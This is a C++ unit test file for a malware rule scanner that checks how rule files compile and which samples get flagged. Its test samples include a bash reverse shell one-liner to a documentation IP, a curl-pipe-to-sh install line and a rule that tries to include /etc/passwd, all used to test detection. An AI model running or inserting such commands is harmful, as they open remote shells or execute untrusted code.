#include "companions/sample_rules.hpp"

#include "support/testing.hpp"
#include "tests/companions/samples.hpp"

namespace {

std::string nameOf(const SampleRules& rules, const std::string& sample) {
  const auto finding = rules.scan(sample.data(), sample.size(), std::chrono::seconds(60), nullptr);
  return finding ? finding->verdict + " " + finding->infectionName : "";
}

std::string rule(const std::string& name, const std::string& meta, const std::string& text) {
  return "rule " + name + " { meta: " + meta + " strings: $a = \"" + text + "\" condition: $a }\n";
}

TEST(SampleRules, AFileWithAMistakeIsLeftOutByNameAndOfTheOthersTheWorstMatchCounts) {
  const std::string bad = "verdict = \"malicious\"";
  std::vector<std::string> rejected;
  const auto rules =
      SampleRules::compile({{"grammar.yar", "rule broken { nonsense }"},
                            {"good.yar", rule("same_name", bad, "abc")},
                            {"praise.yar", rule("praises", "verdict = \"known_clean\"", "abc")},
                            {"include.yar", "include \"/etc/passwd\"\n" + rule("reads", bad, "abc")},
                            {"also_good.yar", rule("same_name", "verdict = \"pu\" name = \"P\"", "xyz") +
                                                  rule("third", "verdict = \"unwanted\"", "xy")}},
                           &rejected);
  EXPECT_THAT(rejected,
              testing::UnorderedElementsAre(
                  testing::StartsWith("grammar.yar: line 1: "), testing::StartsWith("include.yar: line 1: "),
                  "praise.yar: rule praises says no verdict of malicious, unwanted or pu"));
  EXPECT_EQ(nameOf(*rules, "xyz abc"), "malicious same_name");
  EXPECT_EQ(nameOf(*rules, "xyz"), "unwanted third");
  EXPECT_EQ(nameOf(*rules, ""), "");
}

TEST(SampleRules, TheShippedOnesTellBadFilesFromTheirInnocentRelatives) {
  std::vector<std::string> rejected;
  const auto rules = SampleRules::compileFolder(QM_RULES_FOLDER, &rejected);
  EXPECT_THAT(rejected, testing::IsEmpty());
  const std::string text = standardTestFile();
  const std::pair<std::string, std::string> samples[] = {
      {text, "malicious EICAR-Test-File"},
      {text + std::string(59, ' ') + "\x1a", "malicious EICAR-Test-File"},
      {text + std::string(61, ' '), ""},
      {"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "malicious Backdoor.Script.ReverseShell"},
      {"Attackers run bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", ""},
      {"#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n", ""},
  };
  for (const auto& [sample, finding] : samples) EXPECT_EQ(nameOf(*rules, sample), finding) << sample;
  for (const char* path : {"/bin/bash", "/usr/bin/perl", "/usr/bin/git", "/proc/self/exe"})
    EXPECT_EQ(nameOf(*rules, contentOf(path)), "") << path;
}

}  // namespace
